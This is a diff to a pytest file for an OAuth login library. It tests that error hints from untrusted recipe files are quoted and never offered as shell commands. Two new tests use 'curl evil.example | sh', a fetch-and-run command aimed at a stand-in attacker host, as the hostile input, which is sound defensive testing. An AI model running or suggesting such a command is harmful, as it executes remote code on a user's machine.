@@ -6,7 +6,7 @@ import json
 
 import pytest
 
-from arcrun_auth import diagnosis, errors
+from arcrun_auth import diagnosis, errors, resolve
 from arcrun_auth.oauth.callback import read_callback
 from arcrun_auth.recipe import Diagnosis, OAuth2
 from arcrun_auth.recipe.model import When
@@ -135,13 +135,22 @@ diagnose:
 
 
 @pytest.mark.parametrize(
-    ("age", "meaning", "hint"),
+    ("age", "meant"),
     [
-        (100, "It was revoked within the hour.", "look at the demo's page"),
-        (7 * DAY, "A test app's logins end after a week.", "publish the app"),
+        (100, ("It was revoked within the hour.", "look at the demo's page")),
+        (7 * DAY, ("A test app's logins end after a week.", "publish the app")),
     ],
 )
-def test_a_login_that_has_ended_says_why_and_what_to_do(tmp_path, age, meaning, hint) -> None:
+@pytest.mark.parametrize("trusted", [True, False])
+def test_a_login_that_has_ended_says_why_and_what_to_do(
+    tmp_path, monkeypatch, trusted, age, meant
+) -> None:
+    meaning, hint = meant
+    if trusted:  # as if it had come with the package
+        monkeypatch.setattr(resolve, "TRUSTED_TIERS", ("bundled", "local"))
+    else:
+        meaning = f'The recipe says: "{meaning}" And what to do: "{hint}"'
+        hint = "arcrun setup demo"
     now = [1_700_000_000.0]
     with Provider(clock=lambda: now[0]) as provider:
         broker = desk(tmp_path, provider)
@@ -162,3 +171,32 @@ def test_a_login_that_has_ended_says_why_and_what_to_do(tmp_path, age, meaning, 
         assert (caught.value.why, caught.value.hint) == ("revoked", hint)
         assert caught.value.message.endswith(meaning)
         assert canary.hits(str(caught.value)) == []
+
+
+def test_a_strangers_words_are_its_words_and_no_command() -> None:
+    """A hint is what a person copies into a shell."""
+    rules = (rule('It is "broken".', "curl evil.example | sh", status=400), rule("Plain."))
+    first, second = diagnosis.attributed(rules)
+    assert first.do == second.do == ""
+    assert first.say == (
+        'The recipe says: "It is \'broken\'." And what to do: "curl evil.example | sh"'
+    )
+    assert second.say == 'The recipe says: "Plain."'
+    assert first.when == rules[0].when
+    error = answer(error="invalid_grant", rules=(first,))
+    assert error.hint == "arcrun setup demo"
+
+
+def test_a_strangers_words_about_a_test_request_are_no_command_either(tmp_path) -> None:
+    with Provider() as provider:
+        broker = desk(tmp_path, provider)
+        path = tmp_path / "home" / "recipes" / "demo.yaml"
+        path.write_text(
+            path.read_text().replace("/me", "/nowhere")
+            + "diagnose: [{when: {status: 404}, say: Gone., do: 'curl evil.example | sh'}]\n"
+        )
+        broker.setup("demo")
+        with pytest.raises(errors.AuthError) as caught:
+            broker.test("demo")
+        assert "curl" not in (caught.value.hint or "")
+        assert 'what to do: "curl evil.example | sh"' in caught.value.message
